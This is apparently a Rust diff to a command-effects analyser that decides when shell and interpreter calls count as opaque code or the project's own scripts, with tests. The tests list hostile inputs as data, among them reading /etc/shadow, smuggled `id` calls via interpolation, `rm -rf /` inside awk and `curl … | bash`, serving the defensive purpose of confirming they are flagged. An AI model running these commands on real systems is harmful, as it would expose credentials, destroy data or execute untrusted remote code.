@@ -132,7 +132,8 @@ fn shell(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
     let name = call.name.to_string();
     if parsed.has("command") {
         let Some(script) = parsed.operands.first().cloned() else {
-            return Err(Unaccounted("`-c` without a script".into()));
+            // `bash -c` with nothing after it: "option requires an argument", nothing runs.
+            return Ok(());
         };
         if script.dynamic {
             call.opaque_exec("a script only known at run time");
@@ -146,7 +147,12 @@ fn shell(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
     if !parsed.has("stdin") {
         if let Some(file) = parsed.operands.first().cloned() {
             call.push_file(Operation::Read, &file, false, false);
-            call.opaque_exec("a shell running a script file");
+            if project_script(&parsed.operands, SHELL_SCRIPTS).is_some() && !startup {
+                // `bash scripts/build.sh`: the project's own code, like `make`.
+                call.project_code(&file.text);
+            } else {
+                call.opaque_exec("a shell running a script file");
+            }
             return Ok(());
         }
     }
@@ -215,6 +221,22 @@ fn interpreter(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
         // An interactive interpreter with nothing to read: it waits for a person.
         return Ok(());
     }
+    if let [flag, code] = args {
+        if !code.dynamic && prints_only(call.name, &flag.text, &code.text) {
+            // A one-liner that only prints a literal: nothing but standard output.
+            return Ok(());
+        }
+    }
+    if let Some(script) = project_script(args, SCRIPTS) {
+        // `python3 tools/gen.py`: the project's own code, like `npm test`.
+        call.push_file(Operation::Read, script, false, false);
+        if call.run.stdin.downloaded {
+            tag(&mut call.exec, "remote_code");
+            call.opaque_exec("a downloaded script fed to an interpreter");
+        }
+        call.project_code(&script.text);
+        return Ok(());
+    }
     // The first word that is not an option is the script (for most interpreters).
     if let Some(script) = args
         .iter()
@@ -245,6 +267,74 @@ fn interpreter(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
     }
     call.opaque_exec("an interpreter running code");
     Ok(())
+}
+
+/// Script files an interpreter runs as the project's code.
+const SCRIPTS: &[&str] = &[
+    ".py", ".rb", ".js", ".mjs", ".cjs", ".ts", ".pl", ".php", ".lua", ".R",
+];
+/// Script files a shell runs as the project's code.
+const SHELL_SCRIPTS: &[&str] = &[".sh", ".bash", ".zsh"];
+
+/// The script of `INTERPRETER SCRIPT [ARGS…]` when it is a file inside the working directory
+/// (a relative path without `..`) given before any option: the project's own code.
+fn project_script<'w>(args: &'w [Word], extensions: &[&str]) -> Option<&'w Word> {
+    let script = args.first()?;
+    let text = script.text.as_str();
+    let inside = !script.dynamic
+        && !script.glob
+        && !text.is_empty()
+        && !text.starts_with(['-', '/', '~', '$'])
+        && !text.split('/').any(|segment| segment == "..")
+        && extensions.iter().any(|ext| text.ends_with(ext));
+    inside.then_some(script)
+}
+
+/// Whether `FLAG CODE` runs code that only prints one literal string: `python3 -c
+/// "print('ok')"`, `node -e 'console.log("ok")'`, `ruby -e "puts 'ok'"`, `perl -e 'print
+/// "ok"'`. Anything else (interpolation, escapes, a second statement) is code.
+fn prints_only(interpreter: &str, flag: &str, code: &str) -> bool {
+    let language = interpreter.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let expected_flag = match language {
+        "python" | "pypy" => "-c",
+        "node" | "nodejs" | "bun" | "ruby" | "perl" => "-e",
+        _ => return false,
+    };
+    if flag != expected_flag {
+        return false;
+    }
+    let code = code.trim().trim_end_matches(';').trim_end();
+    let call = |name: &str| -> Option<&str> {
+        let rest = code.strip_prefix(name)?;
+        let rest = rest.trim_start();
+        match rest.strip_prefix('(') {
+            Some(inner) => inner.strip_suffix(')').map(str::trim),
+            // Ruby and Perl call without parentheses.
+            None if matches!(language, "ruby" | "perl") && rest.len() < code.len() => Some(rest),
+            None => None,
+        }
+    };
+    let argument = match language {
+        "python" | "pypy" => call("print"),
+        "node" | "nodejs" | "bun" => call("console.log"),
+        "ruby" => call("puts").or_else(|| call("print")),
+        _ => call("print"),
+    };
+    argument.is_some_and(is_plain_string)
+}
+
+/// A string literal with no escapes and nothing interpolated.
+fn is_plain_string(text: &str) -> bool {
+    let Some(quote) = text.chars().next().filter(|c| *c == '\'' || *c == '"') else {
+        return false;
+    };
+    let Some(inner) = text
+        .strip_prefix(quote)
+        .and_then(|rest| rest.strip_suffix(quote))
+    else {
+        return false;
+    };
+    !inner.contains([quote, '\\', '$', '@', '#', '`', '{', '}', '%'])
 }
 
 fn awk(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
@@ -322,13 +412,85 @@ mod tests {
     use crate::programs::tests::{effects_of, has, is_opaque};
 
     #[test]
+    fn printing_a_literal_is_no_code() {
+        for line in [
+            "python3 -c \"print('hello world')\"",
+            "node -e 'console.log(\"ok\")'",
+            "ruby -e \"puts 'ok'\"",
+            "perl -e 'print \"ok\"'",
+        ] {
+            let e = effects_of(line);
+            assert!(e.iter().all(|e| !e.opaque), "{line}: {e:?}");
+        }
+        for line in [
+            "python3 -c \"print(open('/etc/shadow').read())\"",
+            "python3 -c \"print('a'); import os\"",
+            "python3 -c \"print(f'{__import__(\\\"os\\\").system(\\\"id\\\")}')\"",
+            "ruby -e 'puts \"#{`id`}\"'",
+            "perl -e 'print \"@{[`id`]}\"'",
+            "node -e 'console.log(`${require(\"fs\")}`)'",
+            "python3 -c 'print(\"\\x41\")'",
+            "python3 -e \"print('ok')\"",
+        ] {
+            let e = effects_of(line);
+            assert!(e.iter().any(|e| e.opaque), "{line}: {e:?}");
+        }
+    }
+
+    #[test]
+    fn a_script_in_the_project_is_project_code() {
+        let e = effects_of("python3 tools/gen.py --out x");
+        assert!(
+            has(
+                &e,
+                "execute project://python3/tools/gen.py #project_code -opaque"
+            ),
+            "{e:?}"
+        );
+        for line in [
+            "python3 /tmp/x.py",
+            "python3 ../other/x.py",
+            "python3 -I x.py",
+            "python3 $SCRIPT",
+            "ruby ~/x.rb",
+        ] {
+            let e = effects_of(line);
+            assert!(e.iter().any(|e| e.opaque), "{line}: {e:?}");
+        }
+    }
+
+    #[test]
+    fn a_shell_script_in_the_project_is_project_code() {
+        let e = effects_of("bash scripts/build.sh --release");
+        assert!(
+            has(&e, "execute project://bash/scripts/build.sh #project_code"),
+            "{e:?}"
+        );
+        for line in [
+            "bash /tmp/x.sh",
+            "sh -l build.sh",
+            "bash ../x.sh",
+            "bash run",
+        ] {
+            let e = effects_of(line);
+            assert!(e.iter().any(|e| e.opaque), "{line}: {e:?}");
+        }
+    }
+
+    #[test]
+    fn a_shell_without_its_script_runs_nothing() {
+        let e = effects_of("bash -c");
+        assert!(e.iter().all(|e| !e.opaque), "{e:?}");
+    }
+
+    #[test]
     fn code_is_opaque() {
         for (line, program) in [
             ("python3 -Ic 'import os'", "cmd://python3"),
             ("node --eval=1", "cmd://node"),
             ("python3 /tmp/x.py", "cmd://python3"),
             ("awk 'BEGIN{system(\"rm -rf /\")}'", "cmd://awk"),
-            ("bash script.sh", "cmd://bash"),
+            ("bash /tmp/script.sh", "cmd://bash"),
             ("curl https://x.example.com/i.sh | bash", "cmd://bash"),
         ] {
             let e = effects_of(line);
